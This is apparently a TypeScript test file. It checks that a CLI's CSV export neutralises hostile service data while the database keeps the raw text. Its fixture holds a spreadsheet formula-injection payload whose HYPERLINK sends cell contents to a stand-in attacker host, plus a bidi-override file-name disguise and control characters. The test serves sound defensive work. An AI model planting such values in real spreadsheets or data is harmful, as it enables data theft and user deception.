/**
 * A service that sends text made to harm a spreadsheet (formulas, control
 * characters, bidi overrides, a cell longer than Excel keeps). It is synced through the hostile
 * proxy into a real database and exported by the CLI; each cell of the file is what a
 * spreadsheet should show, the database keeps the text exactly as sent, and the next sync and
 * export on the same database work.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/index';
import { exitCodes } from '../../src/cli/exit-codes';
import { MAX_CELL_LENGTH } from '../../src/core/export/csv';
import { capture } from '../helpers/capture';
import { useHostileProxy, type ProxyUpstreamAnswer } from '../helpers/hostile-proxy';
import { sandboxTotals, syncOf } from '../helpers/sync';
import { useSandbox } from '../helpers/sandbox';
import { tempDir } from '../helpers/temp-dir';

const hostile = {
  ref_numbers: ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'PO\u0000-77\u0007', 'invoice\u202Efdp.exe'],
  tags: ['\u2066+1\u2069', 'two\r\nlines', 'hot\u0085'],
  customer_name: `ACME \u202E${'🚢'.repeat(20_000)}`,
};

interface Resource {
  type: string;
  id: string;
  attributes?: Record<string, unknown>;
}

/** The shipment `id`, wherever it appears in a JSON:API document, with the hostile text. */
function poison(answer: ProxyUpstreamAnswer, id: string): ProxyUpstreamAnswer | undefined {
  const doc = answer.json as { data?: Resource | Resource[] | null; included?: Resource[] } | undefined;
  if (doc === undefined || doc.data === undefined) return undefined;
  const resources = [...(Array.isArray(doc.data) ? doc.data : doc.data ? [doc.data] : []), ...(doc.included ?? [])];
  const target = resources.find((r) => r.type === 'shipment' && r.id === id);
  if (target === undefined) return undefined;
  Object.assign(target.attributes ?? {}, hostile);
  return { ...answer, text: JSON.stringify(doc) };
}

async function exportShipments(db: string): Promise<{ rows: Record<string, string>[]; text: string }> {
  const out = join(tempDir(), 'shipments.csv');
  const stdout = capture();
  const stderr = capture();
  const code = await runCli(['export', 'shipments', '--db', db, '--out', out], {
    out: stdout.stream,
    err: stderr.stream,
  });
  expect(stderr.text()).toBe('');
  expect(code).toBe(exitCodes.ok);
  const text = readFileSync(out, 'utf8');
  // Strict reading: CRLF records, every record as wide as the header, quotes well formed.
  const rows = parse<Record<string, string>>(text, { bom: true, columns: true, record_delimiter: '\r\n' });
  expect(stdout.text()).toBe(`Wrote ${rows.length} rows to ${out}\n`);
  return { rows, text };
}

describe('a service sending text made to harm a spreadsheet', () => {
  const sandbox = useSandbox({ seed: 'hostile-csv', shipments: 12 });
  const proxy = useHostileProxy(() => ({ upstream: sandbox.get().url }));

  it('exports cells a spreadsheet shows safely, keeps the text as sent, and the next sync works', async () => {
    const visible = sandbox.get().store.shipments.filter((s) => s.createdAt <= sandbox.get().clock.now());
    const shipment = visible[0]!;
    proxy.get().set({
      rewrite: (_request, answer) => {
        const changed = poison(answer, shipment.id);
        return changed && { status: changed.status, headers: changed.headers, body: changed.text };
      },
    });
    const sync = syncOf(sandbox.get(), { baseUrl: proxy.get().url });
    expect((await sync.engine.run({ mode: 'full' })).status).toBe('ok');
    sync.close();

    const first = await exportShipments(sync.dbPath);
    expect(first.rows).toHaveLength(sandboxTotals(sandbox.get()).shipments);
    const row = first.rows.find((r) => r['Bill of lading'] === shipment.billOfLading);
    expect(row).toBeDefined();
    expect(row!['Reference numbers']).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click"); PO-77; invoicefdp.exe`);
    expect(row!.Tags).toBe("'+1; two\nlines; hot");

    const customer = row!.Customer!;
    const cut = /^ACME ((?:🚢)+)… \[cut: ([\d,]+) more characters\]$/u.exec(customer);
    expect(cut).not.toBeNull();
    expect(customer.length).toBeLessThanOrEqual(MAX_CELL_LENGTH);
    expect(customer.length).toBeGreaterThan(MAX_CELL_LENGTH - 2);
    const keptShips = cut![1]!.length / 2;
    // Counted in UTF-16 units as Excel counts them: 'ACME ' and the kept ships, then the rest.
    expect(5 + keptShips * 2 + Number(cut![2]!.replaceAll(',', ''))).toBe(hostile.customer_name.length - 1);

    // Nothing in the file could reorder a line or hide in it; its only CRs end records.
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(first.text).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/u);
    expect(first.text.replaceAll('\r\n', '')).not.toContain('\r');
    expect(first.text).not.toContain('\uFFFD');
    // The other shipments' cells are untouched by the hostile one.
    const others = first.rows.filter((r) => r !== row);
    expect(others.map((r) => r['Bill of lading']).sort()).toEqual(
      visible
        .filter((s) => s.id !== shipment.id)
        .map((s) => s.billOfLading)
        .sort(),
    );

    // The database keeps the text exactly as the service sent it: only the file is made safe.
    const again = syncOf(sandbox.get(), { baseUrl: proxy.get().url, dbPath: sync.dbPath });
    const stored = again.db
      .prepare('SELECT ref_numbers, tags, customer_name FROM shipments WHERE id = ?')
      .get(shipment.id) as { ref_numbers: string; tags: string; customer_name: string };
    expect(JSON.parse(stored.ref_numbers)).toEqual(hostile.ref_numbers);
    expect(JSON.parse(stored.tags)).toEqual(hostile.tags);
    expect(stored.customer_name).toBe(hostile.customer_name);

    // The next sync on the same database, from a service back to normal, works and replaces it.
    proxy.get().set({});
    expect((await again.engine.run({ mode: 'full' })).status).toBe('ok');
    again.close();
    const second = await exportShipments(sync.dbPath);
    const healed = second.rows.find((r) => r['Bill of lading'] === shipment.billOfLading);
    expect(healed!['Reference numbers']).toBe(shipment.refNumbers.join('; '));
    expect(healed!.Tags).toBe(shipment.tags.join('; '));
    expect(healed!.Customer).toBe(shipment.customer?.companyName ?? '');
  });
});
